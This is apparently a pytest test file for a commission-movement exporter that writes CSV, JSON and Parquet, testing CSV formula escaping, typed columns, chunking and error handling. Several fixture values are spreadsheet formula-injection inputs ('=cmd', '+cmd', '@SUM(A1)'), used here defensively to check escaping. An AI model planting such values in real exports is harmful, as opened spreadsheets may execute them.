            "txn_id": "void|+cmd|JPY|2026-10|1",
            "kind": "void",
            "commission_id": "refund|o4|-|+cmd",
            "source": "refund",
            "order_id": "o4",
            "line_id": "",
            "partner_id": "'+cmd",
            "contract_id": "c-std\nline two",
            "version": "1",
            "amount": "-120000",
            "currency": "JPY",
            "ts": "1969-12-31T23:59:59.999999+00:00",
            "period": "2026-10",
            "reversal_id": "'@SUM(A1)",
            "rejected": "false",
        },
    ]


def test_movement_csv_escaping_is_undone_by_dropping_one_quote(tmp_path: Path) -> None:
    path = tmp_path / "movements.csv"
    write_csv(MOVEMENTS, path)
    _, rows = read_csv(path)
    for row, record in zip(rows, to_records(MOVEMENTS), strict=True):
        for column, value in record.items():
            cell = row[column]
            if value is None:
                assert cell == ""
            elif column in MOVEMENT_TEXT:
                assert unescape(cell) == value
            elif column == "rejected":
                assert cell == ("true" if value else "false")
            else:
                assert cell == str(value)


@pytest.mark.parametrize("column", [c for c in MOVEMENT_TEXT if c != "commission_id"])
def test_movement_csv_escapes_every_free_text_column(tmp_path: Path, column: str) -> None:
    path = tmp_path / "movements.csv"
    write_csv(moved(**{column: ["=1+1", "-2+3", "plain"]}), path)
    _, rows = read_csv(path)
    assert [row[column] for row in rows] == ["'=1+1", "'-2+3", "plain"]
    expected = {"source": ["'=1+1|o1|1|kol-1", "'-2+3|o1|1|kol-1", "plain|o1|1|kol-1"]}
    if column in expected:
        assert [row["commission_id"] for row in rows] == expected[column]


@given(order_id=st.text(), contract_id=st.text(), line_id=st.none() | st.text())
def test_any_movement_text_survives_the_csv_round_trip(
    order_id: str, contract_id: str, line_id: str | None
) -> None:
    movements = moved(order_id=[order_id], contract_id=[contract_id], line_id=[line_id])
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "one.csv"
        write_csv(movements, path)
        _, rows = read_csv(path)
    assert unescape(rows[0]["order_id"]) == order_id
    assert unescape(rows[0]["contract_id"]) == contract_id
    if line_id is None:
        assert rows[0]["line_id"] == ""
    else:
        assert unescape(rows[0]["line_id"]) == line_id
    assert not rows[0]["order_id"].startswith(("=", "+", "-", "@", "\t", "\r"))
    line = "-" if line_id is None else line_id
    assert unescape(rows[0]["commission_id"]) == f"sale|{order_id}|{line}|kol-1"


def test_movement_json_is_laid_out_like_the_records(tmp_path: Path) -> None:
    path = tmp_path / "movements.json"
    write_json(MOVEMENTS, path)
    text = path.read_text(encoding="utf-8")
    assert text == json.dumps(MOVEMENT_RECORDS, ensure_ascii=False, indent=2) + "\n"
    assert "コル-2" in text
    assert '"rejected": true' in text
    assert '"version": 2,' in text
    assert '"line_id": null,' in text


def test_movement_json_values(tmp_path: Path) -> None:
    path = tmp_path / "movements.json"
    write_json(MOVEMENTS, path)
    loaded = json.loads(path.read_text(encoding="utf-8"))
    assert loaded == MOVEMENT_RECORDS
    assert [(r["amount"], r["currency"]) for r in loaded] == [
        ("12.30", "USD"),
        ("-0.05", "USD"),
        ("1200", "JPY"),
        ("-120000", "JPY"),
    ]
    assert loaded[1]["order_id"] == "=cmd"
    assert loaded[1]["rejected"] is True
    assert loaded[3]["reversal_id"] == "@SUM(A1)"
    assert loaded[3]["contract_id"] == "c-std\nline two"


def test_movement_parquet_has_typed_columns(tmp_path: Path) -> None:
    path = tmp_path / "movements.parquet"
    write_parquet(MOVEMENTS, path)
    table = pq.read_table(path)
    assert table.column_names == MOVEMENT_PARQUET_COLUMNS
    types = {field.name: field.type for field in table.schema}
    assert types == {
        **dict.fromkeys(MOVEMENT_TEXT, pa.string()),
        "version": pa.int64(),
        "amount": pa.string(),
        "currency": pa.string(),
        "amount_minor": pa.int64(),
        "ts": pa.timestamp("us", tz="UTC"),
        "rejected": pa.bool_(),
    }
    rows = table.to_pylist()
    for row, record, minor in zip(rows, MOVEMENT_RECORDS, [1230, -5, 1200, -120000], strict=True):
        assert row == {
            **record,
            "amount_minor": minor,
            "ts": datetime.fromisoformat(record["ts"]),
        }
    assert rows[1]["ts"] == datetime(2026, 10, 20, 3, 4, 5, 250, tzinfo=UTC)
    assert rows[2]["ts"] == datetime(2026, 11, 1, tzinfo=TOKYO)
    assert rows[1]["line_id"] is None
    assert rows[1]["order_id"] == "=cmd"
    assert rows[1]["rejected"] is True
    sums = table.group_by("currency").aggregate([("amount_minor", "sum")]).to_pylist()
    assert {r["currency"]: r["amount_minor_sum"] for r in sums} == {"USD": 1225, "JPY": -118800}


def test_empty_movements_keep_their_columns(tmp_path: Path) -> None:
    empty = Movements.empty()
    assert to_records(empty) == []
    export(empty, tmp_path / "empty.csv")
    export(empty, tmp_path / "empty.json")
    export(empty, tmp_path / "empty.parquet")
    assert read_csv(tmp_path / "empty.csv") == (MOVEMENT_COLUMNS, [])
    assert (tmp_path / "empty.json").read_text(encoding="utf-8") == "[]\n"
    table = pq.read_table(tmp_path / "empty.parquet")
    assert table.num_rows == 0
    write_parquet(MOVEMENTS, tmp_path / "full.parquet")
    assert table.schema == pq.read_table(tmp_path / "full.parquet").schema


@pytest.mark.parametrize(
    ("name", "format_", "read"),
    [
        ("out.csv", None, lambda p: read_csv(p)[1][1]["amount"]),
        ("OUT.CSV", None, lambda p: read_csv(p)[1][1]["amount"]),
        ("out.json", None, lambda p: json.loads(p.read_text("utf-8"))[1]["amount"]),
        ("out.parquet", None, lambda p: pq.read_table(p).column("amount")[1].as_py()),
        ("out.txt", "parquet", lambda p: pq.read_table(p).column("amount")[1].as_py()),
        ("out.csv", "json", lambda p: json.loads(p.read_text("utf-8"))[1]["amount"]),
    ],
)
def test_export_writes_movements_in_the_format_of_the_suffix_or_name(
    tmp_path: Path, name: str, format_: Any, read: Any
) -> None:
    path = tmp_path / name
    export(MOVEMENTS, path, format=format_)
    assert read(path) == "-0.05"


def test_movements_are_written_the_same_whatever_the_chunk_size(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for suffix in [".csv", ".json", ".parquet"]:
        export(MOVEMENTS, tmp_path / f"whole{suffix}")
    monkeypatch.setattr(_export, "_CHUNK_ROWS", 3)
    monkeypatch.setattr(_export, "_PARQUET_ROWS", 3)
    assert to_records(MOVEMENTS) == MOVEMENT_RECORDS
    for suffix in [".csv", ".json"]:
        export(MOVEMENTS, tmp_path / f"chunked{suffix}")
        chunked = (tmp_path / f"chunked{suffix}").read_bytes()
        assert chunked == (tmp_path / f"whole{suffix}").read_bytes()
    export(MOVEMENTS, tmp_path / "chunked.parquet")
    chunked_table = pq.read_table(tmp_path / "chunked.parquet")
    assert pq.ParquetFile(tmp_path / "chunked.parquet").num_row_groups == 2
    assert chunked_table.equals(pq.read_table(tmp_path / "whole.parquet"))


@pytest.mark.parametrize(
    ("movements", "error", "message"),
    [
        (moved(order_id=[7]), TypeError, r"movements\['order_id'\]\[0\] is int 7; expected text"),
        (
            moved(partner_id=["kol-1", None]),
            TypeError,
            r"movements\['partner_id'\]\[1\] is NoneType None; expected text",
        ),
        (
            moved(reversal_id=[None, b"r-1"]),
            TypeError,
            r"movements\['reversal_id'\]\[1\] is bytes b'r-1'; expected text or None",
        ),
        (moved(currency=["USD", "XYZ"]), CurrencyError, r"movements\['currency'\]\[1\]: unknown"),
        (moved(currency=[None]), TypeError, r"movements\['currency'\]\[0\] is NoneType"),
        (
            moved(ts=[0, LAST_US + 1]),
            OverflowError,
            r"movements\['ts'\]\[1\]=253402300800000000 µs is outside the range of datetime",
        ),
    ],
)
def test_bad_movements_are_refused_before_anything_is_written(
    tmp_path: Path, movements: Movements, error: type[Exception], message: str
) -> None:
    with pytest.raises(error, match=message):
        to_records(movements)
    for suffix in [".csv", ".json", ".parquet"]:
        with pytest.raises(error, match=message):
            export(movements, tmp_path / f"bad{suffix}")
        assert not (tmp_path / f"bad{suffix}").exists()


@pytest.mark.parametrize("kind", [Entry, Statement, Movements])
def test_movements_take_no_kind(tmp_path: Path, kind: Any) -> None:
    for suffix in [".csv", ".json", ".parquet"]:
        with pytest.raises(TypeError, match=f"items is Movements where kind={kind.__name__}; "):
            export(MOVEMENTS, tmp_path / f"kind{suffix}", kind=kind)
        assert not (tmp_path / f"kind{suffix}").exists()


def test_movements_in_a_list_are_refused(tmp_path: Path) -> None:
    with pytest.raises(TypeError, match=r"items\[0\] is a Movements; expected Entry or"):
        export([MOVEMENTS], tmp_path / "list.csv")  # type: ignore[arg-type]


def test_movement_parquet_without_pyarrow_says_how_to_install_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in [m for m in sys.modules if m == "pyarrow" or m.startswith("pyarrow.")]:
        monkeypatch.delitem(sys.modules, name)
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # import raises ImportError
    with pytest.raises(MissingDependency, match=r"write_parquet needs pyarrow; install it with: "):
        write_parquet(MOVEMENTS, tmp_path / "movements.parquet")
    assert not (tmp_path / "movements.parquet").exists()
